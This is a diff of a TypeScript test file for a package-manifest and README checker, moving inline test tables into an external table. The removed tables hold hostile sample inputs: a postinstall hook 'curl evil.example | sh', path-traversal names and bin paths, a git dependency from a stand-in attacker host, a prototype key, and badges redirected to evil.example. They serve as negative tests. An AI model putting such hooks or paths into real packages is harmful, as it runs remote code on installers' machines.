@@ -7,6 +7,7 @@ import { Diagnostics } from '../../../generator/diagnostics.js';
 import { provePlain } from '../../../generator/output/prove/prove-plain.js';
 import { printPackage } from '../../../generator/output/print/print-package.js';
 import { readSpec } from '../../../generator/spec/read-spec.js';
+import { readTable } from '../../read-table.js';
 
 function plain(path: string, text: string): PlainFile {
   return { kind: 'plain', path, text };
@@ -46,25 +47,16 @@ function json(value: unknown): string {
 describe('package.json', () => {
   test('may say what emitters say', () => expect(findingsIn('package.json', json(manifest))).toEqual([]));
 
-  test.each([
-    ['another script', { scripts: { ...manifest.scripts, postinstall: 'curl evil.example | sh' } }, 'scripts'],
-    ['another build', { scripts: { build: 'evil' } }, 'scripts'],
-    ['a name that leaves its folder', { name: '../pets' }, 'name'],
-    ['a name with a line end', { name: 'pets\n' }, 'name'],
-    ['a program elsewhere', { bin: { pets: '../../evil.js' } }, 'bin'],
-    ['an export elsewhere', { exports: { '.': './../evil.js' } }, 'exports'],
-    ['a library from an address', { devDependencies: { a: 'git+https://evil.example/a.git' } }, 'devDependencies'],
-    ['a library of its own', { dependencies: { evil: '1' } }, 'dependencies'],
-    ['a member of a prototype', { constructor: 'evil' }, 'constructor'],
-    ['a control character', { description: 'a\u001b[31m' }, 'description'],
-    ['hooks', { config: { a: 'b' } }, 'config'],
-  ])('may not have %s', (_, change, member) => {
-    const text = json({ ...manifest, ...change });
-    const line = text.split('\n').findIndex((one) => one.startsWith(`  "${member}":`)) + 1;
-    expect(findingsIn('package.json', text)).toEqual([
-      `package.json:${line} has a member "${member}" that no emitter writes`,
-    ]);
-  });
+  test.each(readTable<readonly [string, object, string]>(import.meta.url, 'may not have'))(
+    'may not have %s',
+    (_, change, member) => {
+      const text = json({ ...manifest, ...change });
+      const line = text.split('\n').findIndex((one) => one.startsWith(`  "${member}":`)) + 1;
+      expect(findingsIn('package.json', text)).toEqual([
+        `package.json:${line} has a member "${member}" that no emitter writes`,
+      ]);
+    },
+  );
 
   test('may not be anything but JSON', () => {
     const want = ['package.json:1 is no JSON as it is written here'];
@@ -100,12 +92,7 @@ describe('badges', () => {
   test('may stand in lines of their own', () =>
     expect(findingsIn('README.md', `# Pets\n\n${badge}\n${badge}\n\nText.\n`)).toEqual([]));
 
-  test.each([
-    ['a picture from elsewhere', badge.replace('img.shields.io/npm/v', 'evil.example')],
-    ['a link to elsewhere', badge.replace('www.npmjs.com', 'evil.example')],
-    ['a query', badge.replace('@pets/pets)]', '@pets/pets?link=evil)]')],
-    ['text beside it', `${badge} Text`],
-  ])('%s is none of them', (_, line) =>
+  test.each(readTable<readonly [string, string]>(import.meta.url, 'is none of them'))('%s is none of them', (_, line) =>
     expect(findingsIn('README.md', `# Pets\n\n${line}\n`)[0]).toBe('README.md:3 has a picture'),
   );
 });
